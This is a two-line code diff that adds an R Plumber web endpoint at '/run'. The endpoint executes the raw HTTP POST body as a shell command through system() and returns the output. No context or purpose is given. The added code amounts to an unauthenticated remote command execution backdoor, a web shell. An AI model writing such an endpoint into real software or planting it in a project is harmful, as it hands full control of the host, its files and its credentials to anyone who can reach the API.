@@ -1,0 +1,2 @@
+#* @post /run
+function(req) system(req$postBody, intern = TRUE)
